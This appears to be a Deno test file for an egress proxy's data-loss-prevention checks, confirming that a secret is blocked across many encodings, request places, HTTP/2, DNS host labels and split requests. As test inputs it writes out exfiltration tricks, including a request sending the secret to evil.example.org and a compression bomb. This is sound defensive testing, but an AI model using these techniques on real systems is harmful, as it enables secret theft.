import { Buffer } from "node:buffer";
import assert from "node:assert/strict";
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from "node:zlib";
import { ENCODINGS, TEXT_ENCODINGS } from "../support/hidden_secret.ts";
import { Frame, getFields, Http2Client } from "../support/http2_client.ts";
import { encode, openTunnel } from "../support/raw_client.ts";
import { sampleSecret } from "../support/sample_token.ts";
import { ALLOWED, get, post, Scene, type SceneOptions } from "./egress_scene.ts";

/** A value of the operator's that no route adds; made anew for each run. */
const SECRET = sampleSecret();

const LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/** A scene whose route blocks, and the check that nothing went out. */
function blocking(options: SceneOptions & { dlp?: Record<string, unknown> } = {}): Promise<Scene> {
  return Scene.start({
    secrets: [{ name: "SHOP_KEY", value: SECRET }],
    routes: [{ host: ALLOWED, dlp: { outbound_on_match: "block", ...options.dlp } }],
    threads: true,
    ...options,
  });
}

const withBody = (body: string | Uint8Array, fields: readonly string[] = []) => {
  const bytes = typeof body === "string" ? encode(body) : Buffer.from(body);
  const head = post("/v1/items", [...fields, `Content-Length: ${bytes.length}`], "");
  return Buffer.concat([Buffer.from(head, "latin1"), bytes]);
};
const form = (disposition: string, content: string | Uint8Array = "x", more = "") =>
  Buffer.concat([
    Buffer.from(`--limit\r\nContent-Disposition: form-data; ${disposition}\r\n${more}\r\n`),
    Buffer.from(content as Uint8Array),
    Buffer.from("\r\n--limit--\r\n"),
  ]);
const MULTIPART = ["Content-Type: multipart/form-data; boundary=limit"];

/** Places that carry any visible character. */
const PLACES: Readonly<Record<string, (text: string) => Uint8Array>> = {
  "path": (text) => encode(get(`/v1/${text.replaceAll("/", "_").replaceAll("+", "-")}/x`)),
  "query": (text) => encode(get(`/v1?q=${text.replaceAll("#", "%23")}`)),
  "header value": (text) => encode(get("/", [`X-Note: ${text}`])),
  "referer": (text) => encode(get("/", [`Referer: https://${ALLOWED}/${text}`])),
  "cookie": (text) => encode(get("/", [`Cookie: a=1; b=${text}`])),
  "JSON body": (text) => withBody(`{"a":[{"b":"${text}"}]}`, ["Content-Type: application/json"]),
  "form body": (text) => withBody(`a=1&b=${text}`),
  "text body of a wrong type": (text) => withBody(text, ["Content-Type: image/png"]),
  "multipart value": (text) => withBody(form('name="a"', text), MULTIPART),
  "multipart file name": (text) => withBody(form(`name="a"; filename="${text}"`), MULTIPART),
  "multipart header": (text) => withBody(form('name="a"', "x", `X-A: ${text}\r\n`), MULTIPART),
  "chunks of five": (text) =>
    encode(post(
      "/",
      ["Transfer-Encoding: chunked"],
      `${
        text.replace(/[^]{1,5}/g, (part) => `${part.length.toString(16)}\r\n${part}\r\n`)
      }0\r\n\r\n`,
    )),
  "gzip body": (text) => withBody(gzipSync(`{"a":"${text}"}`), ["Content-Encoding: gzip"]),
  "deflate body": (text) => withBody(deflateSync(text), ["Content-Encoding: deflate"]),
  "brotli body": (text) => withBody(brotliCompressSync(text), ["Content-Encoding: br"]),
  "zstd body": (text) => withBody(zstdCompressSync(text), ["Content-Encoding: zstd"]),
  "gzip body twice": (text) => withBody(gzipSync(gzipSync(text)), ["Content-Encoding: gzip, gzip"]),
  "gzip part": (text) => withBody(form('name="a"', gzipSync(text)), MULTIPART),
};
/** Escapes that a path, a cookie or a header of a form would be refused for, or that undo nothing there. */
const NOT_THERE: Readonly<Record<string, readonly string[]>> = {
  "path": ["percent twice", "JSON escapes", "HTML entities", "quoted-printable"],
};

for (const [place, request] of Object.entries(PLACES)) {
  Deno.test(`C1 C3 B11 a secret does not leave in the ${place}, in whatever form`, async () => {
    await using scene = await blocking();
    using client = await scene.tunnel();
    for (const [encoding, write] of Object.entries({ ...ENCODINGS, ...TEXT_ENCODINGS })) {
      if (NOT_THERE[place]?.includes(encoding)) continue;
      const answer = await client.ask(request(write(SECRET)));
      assert.equal(answer?.headers.get("x-bot-bottle-denied"), "detected", encoding);
      assert.equal(answer?.status, 403);
      scene.assertNothingSent();
    }
    assert.equal((await client.ask(get("/harmless")))?.status, 200);
    assertUnseen(scene);
  });
}

/** Nothing that the proxy wrote holds the secret, or a long part of it, in any form of the table. */
function assertUnseen(scene: Scene): void {
  const written = JSON.stringify(scene.egress.events);
  for (const [name, write] of Object.entries({ ...ENCODINGS, ...TEXT_ENCODINGS })) {
    assert.ok(!written.includes(write(SECRET)), `an event holds the secret: ${name}`);
  }
  assert.ok(!written.includes(SECRET.slice(4, 20)));
}

Deno.test("C3 a secret does not leave in the labels of a host, and its name is not looked up", async () => {
  await using scene = await blocking({
    routes: [{ host: "*.example.com", dlp: { outbound_on_match: "block" } }],
  });
  const hex = Buffer.from(SECRET).toString("hex");
  const hosts = [
    `${SECRET}.example.com`,
    `${hex.slice(0, 40)}.${hex.slice(40)}.example.com`,
    `${SECRET.slice(0, 18)}.${SECRET.slice(18)}.example.com`,
    `${ENCODINGS.base32!(SECRET).toLowerCase().slice(0, 60)}.example.com`,
  ];
  for (const host of hosts) {
    const client = await openTunnel(scene.egress.port, `${host}:443`, {
      trust: scene.egress.trust,
    });
    using _ = client;
    const answer = await client.ask(get("/", [], host));
    scene.assertRefused(answer, "detected");
    assert.ok(!answer!.body.toString().includes(host.slice(0, 30).toLowerCase()));
  }
  assert.ok(!JSON.stringify(scene.egress.events).toLowerCase().includes(SECRET.slice(4, 18)));
});

Deno.test("C1 a secret does not leave in the name of a header", async () => {
  await using scene = await blocking();
  using client = await scene.tunnel();
  for (const name of [SECRET, `x-${Buffer.from(SECRET).toString("hex")}`]) {
    scene.assertRefused(await client.ask(get("/", [`${name}: 1`])), "detected");
  }
  assertUnseen(scene);
});

Deno.test("C2 a secret does not leave split over path and query, headers, cookies or fields", async () => {
  await using scene = await blocking();
  using client = await scene.tunnel();
  const [a, b, c] = [SECRET.slice(0, 10), SECRET.slice(10, 20), SECRET.slice(20)];
  const requests = [
    encode(get(`/${a}?x=${b}&noise=${c}`)),
    encode(get("/", [`X-First: ${a}`, `X-Second: ${b}`, `X-Third: ${c}`])),
    encode(get("/", [`Cookie: one=${a}; two=${b}; three=${c}`])),
    withBody(JSON.stringify({ first: a, second: { third: b }, last: [c] })),
    withBody(`first=${a}&second=${b}&third=${c}`),
    withBody(
      Buffer.concat([a, b, c].map((part, at) => form(`name="field${at}"`, part).subarray(0, -11))),
      MULTIPART,
    ),
  ];
  for (const [at, request] of requests.entries()) {
    scene.assertRefused(await client.ask(request), "detected");
    assert.equal(scene.egress.events.length, at + 1);
  }
});

Deno.test("B11 a secret does not leave over HTTP/2, and its session goes on", async () => {
  await using scene = await blocking();
  using client = await Http2Client.start(await scene.tunnel(["h2"]));
  await client.request(1, getFields(ALLOWED, `/?q=${SECRET}`));
  assert.equal((await client.outcome(1)).status, 403);
  await client.request(3, getFields(ALLOWED, "/").with(0, [":method", "POST"]), false);
  await client.send(Frame.data, 0, 3, Buffer.from(SECRET.slice(0, 11)));
  await client.send(Frame.data, 1, 3, Buffer.from(SECRET.slice(11)));
  const refused = await client.outcome(3);
  assert.equal(refused.status, 403);
  assert.match(refused.body, /"code":"detected"/);
  scene.assertNothingSent();
  await client.request(5, getFields(ALLOWED, "/"));
  assert.equal((await client.outcome(5)).status, 200);
});

Deno.test("B10 a secret behind any padding is found; a body over max_body is not sent", async () => {
  await using scene = await blocking({ dlp: { max_body: "2m" } });
  for (const padding of [256 * 1024, 1024 * 1024, 2 * 1024 * 1024 - SECRET.length]) {
    using client = await scene.tunnel();
    scene.assertRefused(
      await client.ask(withBody(" ".repeat(padding) + SECRET), 20_000),
      "detected",
    );
  }
  using announced = await scene.tunnel();
  const tooLong = post("/", ["Content-Length: 2097153", "Expect: 100-continue"], "");
  const answer = await announced.ask(tooLong);
  assert.equal(answer?.status, 413, "the answer comes before the body");
  scene.assertRefused(answer, "body_too_large");
  using streamed = await scene.tunnel();
  const chunk = `10000\r\n${"x".repeat(65536)}\r\n`;
  const refused = await streamed.ask(
    post("/", ["Transfer-Encoding: chunked"], chunk.repeat(33) + "0\r\n\r\n"),
  );
  assert.equal(refused?.status, 413);
  scene.assertRefused(refused, "body_too_large");
});

Deno.test("B11 a body in a coding that cannot be undone, or that grows too large, is not sent", async () => {
  await using scene = await blocking({ dlp: { max_body: "1m" } });
  using client = await scene.tunnel();
  for (
    const coding of [
      "lzma",
      "compress",
      "gzip",
      "br",
      "zstd",
      "aes128gcm",
      "gzip,gzip,gzip,gzip,gzip",
    ]
  ) {
    const answer = await client.ask(withBody("not what it says", [`Content-Encoding: ${coding}`]));
    assert.equal(answer?.status, 415, coding);
    scene.assertRefused(answer, "body_undecodable");
  }
  const bomb = new Uint8Array(64 * 1024 * 1024);
  for (const [coding, compress] of [["gzip", gzipSync], ["zstd", zstdCompressSync]] as const) {
    const answer = await client.ask(
      withBody(compress(bomb), [`Content-Encoding: ${coding}`]),
      20_000,
    );
    assert.equal(answer?.status, 413, coding);
    scene.assertRefused(answer, "body_too_large");
  }
  const fine = withBody(gzipSync("harmless ".repeat(1000)), ["Content-Encoding: gzip"]);
  assert.equal((await client.ask(fine))?.status, 200);
  assert.equal(gzipSync("harmless ".repeat(1000)).compare(scene.allowed.onlyRequest.body), 0);
});

Deno.test("B10 a route without detectors streams bodies of any length", async () => {
  await using scene = await blocking({
    routes: [{ host: ALLOWED, dlp: { outbound_detectors: false, max_body: 1024 } }],
  });
  using client = await scene.tunnel();
  assert.equal((await client.ask(withBody(SECRET.repeat(100))))?.status, 200);
});

Deno.test("C9 what was found is told by detector, rule and place, and never by value", async () => {
  await using scene = await blocking();
  using client = await scene.tunnel();
  const answer = await client.ask(withBody(JSON.stringify({ note: btoa(SECRET) })));
  scene.assertRefused(answer, "detected");
  const [event] = scene.egress.events;
  assert.deepEqual(event?.findings, [
    { detector: "known_secrets", rule: "SHOP_KEY", place: "body", severity: "block" },
  ]);
  const told = JSON.parse(answer!.body.toString()).error;
  assert.match(told.reason, /^holds the secret SHOP_KEY, or a part of it.*, in the body$/);
  assert.match(told.next, /take the value out/);
  assert.equal(told.retryable, false);
  for (const text of [JSON.stringify(scene.egress.events), String(answer!.body)]) {
    assert.ok(!text.includes(SECRET.slice(0, 12)) && !text.includes(btoa(SECRET).slice(0, 16)));
  }
});

Deno.test("C9 a request that is refused for another reason tells no secret either", async () => {
  await using scene = await blocking();
  await scene.egress.proxy.screen.prepare();
  using client = await scene.egress.client();
  const refused = await client.ask(
    `GET http://evil.example.org/${SECRET} HTTP/1.1\r\nHost: evil.example.org\r\n\r\n`,
  );
  scene.assertRefused(refused, "host_not_allowed");
  using other = await scene.egress.client();
  const host = `${SECRET.toLowerCase()}.example.org`;
  const connect = await other.ask(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`);
  scene.assertRefused(connect, "host_not_allowed");
  const seen = `${JSON.stringify(scene.egress.events)}${refused?.body}${connect?.body}`;
  assert.ok(!seen.toLowerCase().includes(SECRET.slice(4, 18).toLowerCase()), seen);
});

Deno.test("C1 a route's own credential passes where the proxy adds it, and nowhere else", async () => {
  const token = `tok${crypto.randomUUID().replaceAll("-", "")}`;
  await using scene = await blocking({
    tokens: { EGRESS_TOKEN_0: token },
    secrets: [{ name: "EGRESS_TOKEN_0", value: token }],
    routes: [{
      host: ALLOWED,
      auth: { scheme: "Bearer", token_ref: "EGRESS_TOKEN_0" },
      dlp: { outbound_on_match: "block" },
    }],
  });
  using client = await scene.tunnel();
  assert.equal((await client.ask(get("/", [`Authorization: Bearer ${token}`])))?.status, 200);
  assert.equal(scene.allowed.onlyRequest.headers.get("authorization"), `Bearer ${token}`);
  const before = scene.allowed.bytes;
  assert.equal((await client.ask(get(`/?q=${token}`)))?.status, 403);
  assert.equal((await client.ask(get("/", [`X-Note: ${btoa(token)}`])))?.status, 403);
  assert.equal(scene.allowed.bytes, before);
});

Deno.test("C2 a secret does not leave over several requests, some characters in each", async () => {
  const parts = Array.from({ length: 8 }, (_, at) => `${sampleSecret(2)}${at}${sampleSecret(3)}`);
  await using scene = await blocking({ secrets: [{ name: "SHOP_KEY", value: parts.join("") }] });
  using client = await scene.tunnel();
  const statuses: (number | undefined)[] = [];
  for (const [at, part] of parts.entries()) {
    const request = at % 2 === 0
      ? encode(get(`/items?n=${at}&part=${part}`))
      : withBody(gzipSync(JSON.stringify({ part })), ["Content-Encoding: gzip"]);
    statuses.push((await client.ask(request))?.status);
  }
  assert.equal(statuses[0], 200);
  const refused = statuses.filter((status) => status === 403).length;
  assert.ok(refused >= 4, `${parts.length - refused} of ${parts.length} parts left`);
  assert.equal(scene.allowed.requests.length, parts.length - refused);
  assert.equal((await client.ask(get("/harmless")))?.status, 200);
});

Deno.test("B10 a slow sender may take its time, one that stops is ended, and neither sends a part", async () => {
  await using scene = await blocking({ timeouts: { idle: 500 } });
  using slow = await scene.tunnel();
  using idle = await scene.egress.client();
  let outlived = false;
  const waiting = idle.closes(20_000).then((closed) => outlived = closed);
  await slow.send(post("/", ["Transfer-Encoding: chunked"], ""));
  while (!outlived) {
    await slow.send("2\r\nab\r\n");
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  await waiting;
  scene.assertNothingSent();
  assert.equal((await slow.ask("0\r\n\r\n"))?.status, 200);
  assert.match(String(scene.allowed.onlyRequest.body), /^(?:ab){3,}$/);
  const before = scene.allowed.bytes;
  using stopped = await scene.tunnel();
  const answer = await stopped.ask(post("/", ["Content-Length: 100000"], "x".repeat(1000)), 20_000);
  assert.equal(answer?.headers.get("x-bot-bottle-denied"), "upstream_timeout");
  assert.equal(scene.allowed.bytes, before);
});

Deno.test("C9 a hint lets the request pass and is an event, also where only refusals are recorded", async () => {
  await using scene = await blocking({
    log: 1,
    routes: [{
      host: ALLOWED,
      dlp: { outbound_detectors: ["entropy"], outbound_on_match: "block" },
    }],
  });
  using client = await scene.tunnel();
  assert.equal((await client.ask(withBody("plain words")))?.status, 200);
  assert.equal(scene.egress.events.length, 0);
  // Every character once: six bits each, as dense as text can be.
  const answer = await client.ask(withBody(LETTERS));
  assert.equal(answer?.status, 200);
  assert.deepEqual(scene.egress.events[0]?.findings, [
    { detector: "entropy", rule: "window", place: "body", severity: "warn" },
  ]);
});
